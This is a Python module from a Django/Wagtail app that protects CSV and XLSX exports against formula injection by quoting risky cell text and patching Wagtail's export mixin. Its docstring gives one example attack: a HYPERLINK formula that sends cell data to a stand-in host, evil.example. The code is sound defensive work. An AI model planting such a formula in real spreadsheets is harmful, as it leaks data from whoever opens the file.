"""Every CSV and XLSX file Muster writes goes through this module, so none carries a live
spreadsheet formula from user input (DESIGN.md, "Rules that must always hold").

A spreadsheet program runs a cell that starts with = + - or @ as a formula, and some also
treat a leading tab or carriage return that way. A name such as
`=HYPERLINK("http://evil.example/?x="&A1,"y")` typed at sign-up would otherwise run on a
trainer's machine when they open the roster. OWASP's rule (CSV injection): such a text cell is
prefixed with a single quote. XLSX text cells are written as text as well (openpyxl data type
"s", number format "@"), so nothing in them is ever evaluated, whatever the program.

Numbers, dates and other non-text values are written as they are: they cannot hold a formula.
The imports strip the quote again (`unneutralise`), so an exported sheet re-imports unchanged.
"""

import csv
import datetime
import io

from django.http import HttpResponse
from django.utils.encoding import force_str
from django.utils.functional import Promise

# OWASP's list: formula starters, and tab / carriage return that some programs strip first.
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value):
    """The cell value to write: text starting with a formula character gets a leading quote."""
    if isinstance(value, Promise):
        value = str(value)  # lazily translated labels
    if isinstance(value, str) and value.startswith(FORMULA_STARTERS):
        return "'" + value
    return value


def unneutralise(text):
    """Read back a cell this module wrote: drop the quote it added, and only that quote."""
    if len(text) > 1 and text[0] == "'" and text[1:].startswith(FORMULA_STARTERS):
        return text[1:]
    return text


def _text(value):
    """A CSV cell: every value as text, neutralised."""
    if value is None:
        return ""
    if isinstance(value, (str, Promise)):
        return neutralise(value)
    return neutralise(force_str(value))


def csv_text(headers, rows, *, lineterminator="\r\n"):
    """The CSV as a string (header row first)."""
    buffer = io.StringIO()
    write_csv(buffer, headers, rows, lineterminator=lineterminator)
    return buffer.getvalue()


def write_csv(stream, headers, rows, *, lineterminator="\r\n"):
    """Write rows to a text stream (a file, a management command's stdout)."""
    writer = csv.writer(stream, lineterminator=lineterminator)
    if headers is not None:
        writer.writerow([_text(h) for h in headers])
    for row in rows:
        writer.writerow([_text(v) for v in row])


def csv_response(headers, rows, filename, *, bom=False):
    body = csv_text(headers, rows)
    # The BOM lets spreadsheet programs read UTF-8 (report exports have always carried one).
    payload = body.encode("utf-8-sig" if bom else "utf-8")
    response = HttpResponse(payload, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_cell(sheet, value, *, bold=False):
    """One write-only cell: text always typed as text, never as a formula."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    value = neutralise(value)
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)  # XLSX has no time zones; callers pass local times
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl types any text starting with "=" as a formula ("f"): force plain text.
        cell.data_type = "s"
        cell.number_format = "@"
    if bold:
        cell.font = Font(bold=True)
    return cell


def xlsx_bytes(sheets):
    """A workbook from [(title, headers, rows)]: one sheet each, bold header row."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    for title, headers, rows in sheets:
        # Sheet titles: at most 31 characters, none of []:*?/\ (callers pass safe keys).
        sheet = workbook.create_sheet(title=str(title)[:31])
        if headers is not None:
            sheet.append([xlsx_cell(sheet, h, bold=True) for h in headers])
        for row in rows:
            sheet.append([xlsx_cell(sheet, v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(headers, rows, filename, *, title="Sheet1"):
    response = HttpResponse(xlsx_bytes([(title, headers, rows)]), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


# --- Wagtail's admin list exports (?export=csv|xlsx on every IndexView with list_export) ------


def protect_wagtail_exports():
    """Route Wagtail's SpreadsheetExportMixin through the same rule. It is patched once, at
    start-up (reports/apps.py), rather than mixed into each view: Wagtail's own exports (page
    reports, form submissions) use the mixin too, and an admin list added later is covered
    without anyone remembering to opt in."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_muster_protected", False):
        return
    original_preprocess = SpreadsheetExportMixin.preprocess_field_value
    original_heading = SpreadsheetExportMixin.get_heading

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(original_preprocess(self, field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise(original_heading(self, queryset, field))

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for field, value in row_dict.items():
            cell = xlsx_cell(worksheet, self.preprocess_field_value(field, value, self.FORMAT_XLSX))
            if date_format and isinstance(value, datetime.datetime):
                cell.number_format = date_format
            yield cell

    def write_xlsx(self, queryset, output):
        # Wagtail's own, with the heading row written as text cells too.
        from openpyxl import Workbook
        from wagtail.admin.views.mixins import ExcelDateFormatter

        workbook = Workbook(write_only=True, iso_dates=True)
        worksheet = workbook.create_sheet(title="Sheet1")
        worksheet.append(
            xlsx_cell(worksheet, self.get_heading(queryset, field), bold=True)
            for field in self.list_export
        )
        date_format = ExcelDateFormatter().get()
        for item in queryset:
            worksheet.append(
                self.generate_xlsx_row(worksheet, self.to_row_dict(item), date_format=date_format)
            )
        workbook.save(output)

    SpreadsheetExportMixin.write_xlsx = write_xlsx
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    SpreadsheetExportMixin.generate_xlsx_row = generate_xlsx_row
    SpreadsheetExportMixin._muster_protected = True
